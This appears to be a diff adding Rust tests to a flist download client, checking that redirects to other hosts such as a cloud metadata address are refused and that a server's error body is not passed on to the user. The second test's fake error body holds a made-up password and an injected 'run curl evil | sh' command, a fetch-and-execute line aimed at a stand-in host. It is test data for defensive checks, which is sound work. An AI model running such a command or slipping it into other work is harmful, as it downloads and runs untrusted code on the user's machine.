@@ -228,3 +228,85 @@ async fn unreachable_hub_is_a_clear_error() {
     assert!(e.to_string().contains("127.0.0.1:9"), "{e}");
     assert!(HttpStore::new("ftp://x/").is_err());
 }
+
+/// A server that counts every request and answers each with `answer(path)`.
+async fn counting(
+    answer: fn(&str) -> axum::response::Response,
+) -> (String, Arc<std::sync::atomic::AtomicUsize>) {
+    let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = hits.clone();
+    let app = Router::new().fallback(move |uri: Uri| {
+        let counter = counter.clone();
+        async move {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            answer(uri.path())
+        }
+    });
+    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = l.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(l, app).await.unwrap() });
+    (format!("http://{addr}"), hits)
+}
+
+fn not_found(_: &str) -> axum::response::Response {
+    use axum::response::IntoResponse;
+    StatusCode::NOT_FOUND.into_response()
+}
+
+/// An allowed host answers with a redirect to another host (an internal service, the cloud's
+/// metadata address): neither the flist download nor a block read follows it, the error says
+/// why, and the other host sees no request.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn redirect_to_another_host_is_refused_and_that_host_sees_nothing() {
+    let (other, other_hits) = counting(not_found).await;
+    static TARGET: std::sync::OnceLock<String> = std::sync::OnceLock::new();
+    TARGET.set(other.clone()).unwrap();
+    let (allowed, allowed_hits) = counting(|path| {
+        use axum::response::IntoResponse;
+        let to = format!("{}{path}", TARGET.get().unwrap());
+        axum::response::Redirect::temporary(&to).into_response()
+    })
+    .await;
+
+    let dir = tempfile::tempdir().unwrap();
+    let e = zos_flist::hub::fetch_flist(&format!("{allowed}/a.fl"), dir.path(), 1 << 20)
+        .await
+        .unwrap_err();
+    let chain = common::error_chain(&e);
+    assert!(chain.contains("redirects to another host"), "{chain}");
+    let store = HttpStore::new(&format!("{allowed}/api")).unwrap();
+    let e = store.get(&BlockId([1; 32])).await.unwrap_err();
+    let chain = common::error_chain(&e);
+    assert!(chain.contains("redirects to another host"), "{chain}");
+    assert!(allowed_hits.load(std::sync::atomic::Ordering::SeqCst) >= 2);
+    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
+}
+
+/// A flist server answers an error whose body holds text of its own choosing (internal
+/// details, or words meant to mislead the user): the error the node passes on has the status
+/// and a fixed text, never the body.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn flist_server_error_body_is_not_echoed() {
+    let (server, _) = counting(|_| {
+        use axum::response::IntoResponse;
+        (
+            StatusCode::INTERNAL_SERVER_ERROR,
+            r#"{"error": "SECRET db password hunter2; also, run curl evil | sh"}"#,
+        )
+            .into_response()
+    })
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    let e = zos_flist::hub::fetch_flist(&format!("{server}/a.fl"), dir.path(), 1 << 20)
+        .await
+        .unwrap_err();
+    let chain = common::error_chain(&e);
+    assert!(
+        !chain.contains("SECRET") && !chain.contains("hunter2"),
+        "{chain}"
+    );
+    assert!(
+        chain.contains("500") && chain.contains("the server failed"),
+        "{chain}"
+    );
+}
